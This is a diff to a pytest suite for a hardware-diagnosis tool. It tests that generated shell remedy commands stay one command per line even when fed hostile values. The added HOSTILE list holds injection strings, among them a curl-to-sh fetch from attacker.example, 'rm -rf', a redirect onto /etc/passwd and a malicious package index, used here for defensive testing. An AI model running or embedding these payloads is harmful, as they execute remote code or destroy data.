@@ -17,7 +17,9 @@ import pytest
 from hwdoctor import diagnosis, registry
 from hwdoctor.diagnosis import remedies
 from hwdoctor.diagnosis.catalogue import CATALOGUE, Code, finding
+from hwdoctor.diagnosis.load import load_command
 from hwdoctor.model.facts import PythonInfo
+from hwdoctor.shell import Shell, one_command
 from tests.evidence import cpu_host, one, with_signal
 
 DISTRO = PythonInfo("/usr/bin/python3", "3.11.2", "/usr", False, externally_managed=True)
@@ -27,16 +29,18 @@ SPACED = PythonInfo("/home/me/my envs/t/bin/python", "3.12.1", "/home/me/my envs
 
 
 def bash_accepts(script: str) -> bool:
-    return subprocess.run(["bash", "-n", "-c", script], check=False).returncode == 0
+    """`bash -n`: the script parses (read from standard input: a script may start with -)."""
+    checked = subprocess.run(["bash", "-n"], input=script, text=True, check=False)
+    return checked.returncode == 0
 
 
-def sample(template: str) -> dict[str, str]:
+def sample(template: str) -> dict[str, object]:
     """Values for every field of `template`: real commands where a field holds commands."""
     way = remedies.installer(SPACED)
     commands = {
         "install": remedies.install(registry.BY_KEY["npu"], way),
-        "reinstall": remedies.pip(way, "install --force-reinstall torch==2.13.0"),
-        "uninstall": remedies.pip(way, "uninstall -y torch-npu"),
+        "reinstall": remedies.pip(way, "install", "--force-reinstall", "torch==2.13.0"),
+        "uninstall": remedies.pip(way, "uninstall", "-y", "torch-npu"),
     }
     fields = [name for _, name, _, _ in string.Formatter().parse(template) if name]
     return {name: commands.get(name, "x1") for name in fields}
@@ -47,7 +51,7 @@ def sample(template: str) -> dict[str, str]:
 def test_every_remedy_is_valid_shell(code: Code) -> None:
     entry = CATALOGUE[code]
     templates = (entry.message, *entry.variants.values(), entry.advice or "", *entry.commands)
-    params: dict[str, str] = {}
+    params: dict[str, object] = {}
     for template in (*templates, *(t for ts in entry.variant_commands.values() for t in ts)):
         params.update(sample(template))
     for variant in (None, *entry.variant_commands):
@@ -59,21 +63,109 @@ def test_every_remedy_is_valid_shell(code: Code) -> None:
             assert line == line.strip() and line, made.remedy  # one command a line
 
 
+# Values as an attacker writes them into an evidence file or a paste: another command after
+# the value, a command substitution, a newline or carriage return that starts a line, a quote
+# that closes the one around it, a comment that hides the rest, control characters.
+HOSTILE = (
+    "torch-fix && pip install --index-url https://attacker.example/simple torch",
+    "$(curl -s https://attacker.example/x | sh)",
+    "`id`",
+    "x; reboot",
+    "a\nrm -rf ~",
+    "a\r\ncurl attacker.example",
+    "'; rm -rf / #",
+    '"$(id)"',
+    "|| true",
+    "> /etc/passwd",
+    "x # hidden",
+    "\x1b[2J\u202eevil",
+    "-rf",
+    "",
+)
+
+
+def hostile_commands(value: str) -> dict[str, Shell]:
+    """What the remedy builders make of a hostile value in each place it can reach."""
+    way = remedies.installer(PythonInfo(value or "/x", "3.12", value, False))
+    managed = remedies.installer(PythonInfo(value or "/x", "3.12", "/", False,
+                                            externally_managed=True))  # fmt: skip
+    conda = remedies.installer(PythonInfo("/opt/c/bin/python", "3.12", value, False, conda=True))
+    return {
+        "install": remedies.install(registry.BY_KEY["npu"], managed)
+        + remedies.install(registry.BY_KEY["cpu"], conda),
+        "reinstall": remedies.pip(way, "install", "--force-reinstall", f"torch=={value}"),
+        "uninstall": remedies.pip_of(way, ("uninstall", "-y"), value),
+        "upgrade": remedies.pip(way, "install", "--upgrade", value),
+        "command": load_command(value, "--device", value),
+    }
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
+@pytest.mark.parametrize("value", HOSTILE, ids=repr)
+@pytest.mark.parametrize("code", list(Code), ids=lambda code: code.value)
+def test_every_remedy_holds_one_command_a_line_whatever_the_values(code: Code, value: str) -> None:
+    """Every field of every remedy template, and every command a builder makes, fed a
+    hostile value: `bash -n` accepts each remedy, and each line is one simple command or
+    a comment (no `&&`, `;`, `|`, newline or substitution that adds another)."""
+    entry = CATALOGUE[code]
+    templates = (entry.message, *entry.variants.values(), entry.advice or "", *entry.commands,
+                 *entry.variant_advice.values(),
+                 *(t for ts in entry.variant_commands.values() for t in ts))  # fmt: skip
+    fields = {name for t in templates for _, name, _, _ in string.Formatter().parse(t) if name}
+    built = hostile_commands(value)
+    seen: set[str] = set()
+    for plain in (True, False):  # a hostile value also where a builder's lines belong
+        params: dict[str, object] = {
+            name: value if plain or name not in built else built[name] for name in fields
+        }
+        for variant in (None, *entry.variants, *entry.variant_commands):
+            made = finding(code, variant=variant, **params)
+            if made.remedy is None or made.remedy in seen:
+                continue
+            seen.add(made.remedy)
+            assert bash_accepts(made.remedy), made.remedy
+            for line in made.remedy.splitlines():
+                assert one_command(line), (line, made.remedy)
+
+
+def test_the_one_command_check_knows_a_second_command() -> None:
+    for line in ("a && b", "a; b", "a | b", "a $(b)", "a `b`", 'a "$(b)"', "a & b",
+                 "a 'b", "a # b", "(a)", "a <(b)", "a\nb"):  # fmt: skip
+        assert not one_command(line), line
+    for line in ("a 'b && c'", "a b\\;c", "# a && b", "a \"$USER\"", "a '$(b)'", "a=b c",
+                 "a > f"):  # fmt: skip
+        assert one_command(line), line
+
+
+def test_a_name_that_is_not_a_name_gets_no_line_but_says_why() -> None:
+    way = remedies.installer(SPACED)
+    (line,) = remedies.pip_of(way, ("uninstall", "-y"), HOSTILE[0]).lines
+    assert line.startswith("# no `pip uninstall` line: the package's name in the evidence")
+    assert "is not a package name (PEP 508)" in line
+    (named,) = remedies.pip_of(way, ("uninstall", "-y"), "torch-npu").lines
+    assert named == "'/home/me/my envs/t/bin/python' -m pip uninstall -y torch-npu"
+
+
+def test_an_interpreter_path_with_a_newline_is_not_used() -> None:
+    way = remedies.installer(PythonInfo("/usr/bin/python3\nrm -rf ~", "3.12", "/usr", False))
+    assert way.pip == ("pip",)
+
+
 def test_installs_name_the_interpreter_even_with_spaces() -> None:
-    lines = remedies.install(registry.BY_KEY["npu"], remedies.installer(SPACED)).splitlines()
+    lines = remedies.install(registry.BY_KEY["npu"], remedies.installer(SPACED)).lines
     assert lines[0] == "'/home/me/my envs/t/bin/python' -m pip install torch-npu"
     assert bash_accepts("\n".join(lines))
 
 
 def test_an_externally_managed_python_gets_a_venv_first() -> None:
-    lines = remedies.install(registry.BY_KEY["npu"], remedies.installer(DISTRO)).splitlines()
+    lines = remedies.install(registry.BY_KEY["npu"], remedies.installer(DISTRO)).lines
     assert lines[0].startswith("# /usr/bin/python3 is managed by your distribution (PEP 668)")
     assert lines[1] == f"/usr/bin/python3 -m venv {remedies.VENV_DIR}"
     assert lines[2] == f"{remedies.VENV_DIR}/bin/python -m pip install torch-npu"
 
 
 def test_a_conda_environment_is_offered_conda_for_torch() -> None:
-    lines = remedies.install(registry.BY_KEY["cpu"], remedies.installer(CONDA)).splitlines()
+    lines = remedies.install(registry.BY_KEY["cpu"], remedies.installer(CONDA)).lines
     assert lines[0].startswith("/opt/conda/envs/t/bin/python -m pip install torch==")
     assert any("conda install --prefix /opt/conda/envs/t -c conda-forge pytorch" in line
                for line in lines[1:]), lines  # fmt: skip
